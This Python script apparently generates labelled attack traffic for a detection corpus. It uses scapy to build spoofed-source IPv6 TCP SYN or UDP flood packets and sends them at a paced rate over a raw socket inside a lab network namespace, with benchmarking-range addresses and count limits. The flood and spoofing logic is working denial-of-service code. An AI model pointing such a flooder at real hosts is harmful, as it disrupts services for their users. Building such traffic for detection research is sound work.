"""Spoofed IPv6 flood for the corpus (cases ipv6_syn_flood and ipv6_udp_flood).

Runs in the NET namespace (see lib.sh). Builds every packet with scapy beforehand: IPv6 from a
random source inside --src-prefix (a /64 inside 2001:2:0:8000::/49, random low 64 bits per
packet, hop limit 64), to --dst; `syn`: TCP SYN to port 80 from a random port (random sequence
number, MSS option); `udp`: 16-48 random bytes from a random ephemeral port to a random high
port. Waits until --start-at (epoch s), then sends the frames on --iface (an AF_PACKET socket,
Ethernet to --dst-mac) paced to --rate packets/s by the clock (no drift), for --seconds, never
more than --count packets.
Prints the epoch of the first and last packet and the count sent.
"""

import argparse
import ipaddress
import random
import socket
import time

from scapy.layers.inet import TCP, UDP
from scapy.layers.inet6 import IPv6
from scapy.layers.l2 import Ether


# Source ports of the UDP flood: Linux's ephemeral range, minus the amplification services'
# ports in it (a random port must not look like a reflector's answer).
EPHEMERAL = [p for p in range(32768, 61000) if p not in (37810, 47808)]


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--mode", choices=["syn", "udp"], required=True)
    ap.add_argument("--dst", default="2001:2::1")
    ap.add_argument("--iface", required=True)
    ap.add_argument("--dst-mac", required=True)
    ap.add_argument("--src-prefix", default="2001:2:0:8000::/64")
    ap.add_argument("--rate", type=float, default=500)
    ap.add_argument("--seconds", type=float, default=12)
    ap.add_argument("--count", type=int, default=6000)
    ap.add_argument("--start-at", type=float, default=0)
    ap.add_argument("--seed", type=int, default=6)
    a = ap.parse_args()
    net = ipaddress.IPv6Network(a.src_prefix)
    assert net.subnet_of(ipaddress.IPv6Network("2001:2:0:8000::/49")), "sources outside the range"
    rnd = random.Random(a.seed)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    src_mac = ":".join(f"{b:02x}" for b in s.getsockname()[4])
    n = min(a.count, int(a.rate * a.seconds))
    frames = []
    for _ in range(n):
        src = str(net[rnd.randrange(1, net.num_addresses - 1)])
        ip = IPv6(src=src, dst=a.dst, hlim=64)
        if a.mode == "syn":
            l4 = TCP(sport=rnd.randint(1024, 65535), dport=80, flags="S",
                     seq=rnd.getrandbits(32), window=64240, options=[("MSS", 1440)])
        else:
            sport = rnd.choice(EPHEMERAL)
            l4 = UDP(sport=sport, dport=rnd.randint(1024, 65535)) / \
                bytes(rnd.getrandbits(8) for _ in range(rnd.randint(16, 48)))
        frames.append(bytes(Ether(src=src_mac, dst=a.dst_mac, type=0x86DD) / ip / l4))
    while time.time() < a.start_at:
        time.sleep(min(0.01, a.start_at - time.time()))
    first = time.time()
    t0 = time.monotonic()
    sent = 0
    while sent < n:
        el = time.monotonic() - t0
        if el >= a.seconds:
            break
        due = min(n, int(el * a.rate) + 1)
        while sent < due:
            s.send(frames[sent])
            sent += 1
        time.sleep(0.001)
    print(f"first {first:.6f} last {time.time():.6f} sent {sent}", flush=True)


if __name__ == "__main__":
    main()
